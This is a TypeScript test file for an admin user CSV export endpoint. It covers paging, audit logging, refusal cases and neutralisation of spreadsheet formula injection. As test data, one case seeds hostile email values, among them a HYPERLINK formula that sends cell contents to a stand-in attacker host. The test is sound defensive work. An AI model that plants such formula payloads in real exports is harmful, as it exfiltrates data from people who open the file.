// The admin user export (POST /v1/admin/users/export): every match of the search's filters as one
// CSV file streamed in pages, a typed reason recorded before the first row, and cells a
// spreadsheet would evaluate neutralized (AD-11). Runs on SQLite and PostgreSQL.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, expectProblem, postJson, registerUser, totpCode, uniqueUsername } from '../helpers/flow.js';
import { startTestTwofold, type TestTwofold } from '../helpers/twofold.js';
import { adminCall, signUpWithRoles } from './admin-helpers.js';

let t: TestTwofold;
beforeAll(async () => {
  t = await startTestTwofold();
});
afterAll(async () => t.close());

const reason = 'quarterly access review, ticket 815';

/** RFC 4180 records of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(cell);
      cell = '';
    } else if (char === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
    } else cell += char;
  }
  expect(cell, 'the file ends with a line break').toBe('');
  return records;
}

/** Users written straight into the table, as an import or an older version could have stored them. */
async function insertUsers(prefix: string, count: number, overrides: (index: number) => { email?: string | null; phone?: string | null } = () => ({})): Promise<string[]> {
  const now = t.clock.now();
  const rows = Array.from({ length: count }, (_, index) => ({
    id: `usr_${prefix}${String(index).padStart(5, '0')}`,
    username: `${prefix}${String(index).padStart(5, '0')}`,
    email: null,
    phone: null,
    password_hash: '$argon2id$v=19$m=19456,t=2,p=1$c29tZXNhbHQ$aGFzaA',
    created_at: now,
    updated_at: now,
    disabled_at: null,
    locked_at: null,
    credentials_changed_at: null,
    email_verified_at: null,
    passkey_offer_dismissed_at: null,
    ...overrides(index),
  }));
  for (let start = 0; start < rows.length; start += 200) await t.ctx.db.insertInto('users').values(rows.slice(start, start + 200)).execute();
  return rows.map((row) => row.id);
}

describe('the admin user export (AD-11)', () => {
  it('AD-11: streams every user the filters match across pages, with the columns of the search and an attachment name; the reason and filters are one audit event', async () => {
    const admin = await signUpWithRoles(t, ['support']);
    const prefix = uniqueUsername('exp').replace(/[^a-z0-9]/g, '');
    const ids = await insertUsers(prefix, 1234);
    const response = await adminCall(t, admin.accessToken, 'POST', '/v1/admin/users/export', { q: prefix, reason });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="twofold-users-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers['cache-control']).toBe('no-store');
    const [header, ...records] = parseCsv(response.body);
    expect(header).toEqual(['id', 'username', 'email', 'email_verified', 'phone', 'created_at', 'last_sign_in_at', 'locked', 'disabled', 'roles', 'factor_types', 'delete_after']);
    expect(records.map((record) => record[0])).toEqual(ids);
    expect(records[0]).toEqual([ids[0], `${prefix}00000`, '', 'false', '', new Date(t.clock.now()).toISOString(), '', 'false', 'false', '', '', '']);

    await t.ctx.auditTrail.flush();
    const events = await t.ctx.db.selectFrom('security_events').select('details').where('type', '=', 'admin.users_exported').where('user_id', '=', admin.userId).execute();
    expect(events).toHaveLength(1);
    expect(JSON.parse(events[0]!.details ?? '{}')).toMatchObject({ admin_id: admin.userId, reason, filters: JSON.stringify({ q: prefix }) });
  });

  it('AD-11: a cell starting with = + - @, a tab, CR or LF starts with an apostrophe — an e-mail like =HYPERLINK(…) or a phone number is text in a spreadsheet', async () => {
    const admin = await signUpWithRoles(t, ['admin']);
    const prefix = uniqueUsername('inj').replace(/[^a-z0-9]/g, '');
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")@example.com', '+SUM(1,2)@example.com', '-2+3@example.com', '@cmd@example.com', '\t=1@example.com', '\r=1@example.com', '\n=1@example.com'];
    await insertUsers(prefix, hostile.length, (index) => ({ email: hostile[index]!, phone: '+15550001111' }));
    const response = await adminCall(t, admin.accessToken, 'POST', '/v1/admin/users/export', { q: prefix, reason });
    expect(response.statusCode, response.body).toBe(200);
    const records = parseCsv(response.body).slice(1);
    expect(records.map((record) => record[2])).toEqual(hostile.map((email) => `'${email}`));
    expect(records.every((record) => record[4] === "'+15550001111")).toBe(true);
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });

  it('AD-11: refused before a row is written — no reason, a bad filter, no role, a stale second factor — and nothing is recorded', async () => {
    const admin = await signUpWithRoles(t, ['admin']);
    const nobody = await signUpWithRoles(t, []);
    const refusals = [
      [await adminCall(t, admin.accessToken, 'POST', '/v1/admin/users/export', {}), 400, 'invalid_request'],
      [await adminCall(t, admin.accessToken, 'POST', '/v1/admin/users/export', { reason: 'no' }), 400, 'invalid_request'],
      [await adminCall(t, admin.accessToken, 'POST', '/v1/admin/users/export', { reason, phone_suffix: 'abc' }), 400, 'invalid_request'],
      [await adminCall(t, admin.accessToken, 'POST', '/v1/admin/users/export', { reason, locked: 'maybe' }), 400, 'invalid_request'],
      [await adminCall(t, nobody.accessToken, 'POST', '/v1/admin/users/export', { reason }), 403, 'forbidden'],
    ] as const;
    for (const [response, status, code] of refusals) expectProblem(response, status, code);
    t.clock.advanceSeconds(301);
    expectProblem(await adminCall(t, admin.accessToken, 'POST', '/v1/admin/users/export', { reason }), 401, 'insufficient_authentication');
    await t.ctx.auditTrail.flush();
    const events = await t.ctx.db.selectFrom('security_events').select('id').where('type', '=', 'admin.users_exported').where('user_id', '=', admin.userId).execute();
    expect(events).toHaveLength(0);
    const stepUp = await postJson(t.app, '/v1/mfa/verify', { code: totpCode(t, admin.secret) }, bearer(admin.accessToken));
    expect(stepUp.statusCode, stepUp.body).toBe(200);
    const fresh = stepUp.json().access_token as string;
    const person = await registerUser(t, { email: `${uniqueUsername('one')}@example.com` });
    const response = await adminCall(t, fresh, 'POST', '/v1/admin/users/export', { q: person.username, reason });
    expect(response.statusCode, response.body).toBe(200);
    expect(parseCsv(response.body)).toHaveLength(2);
  });
});
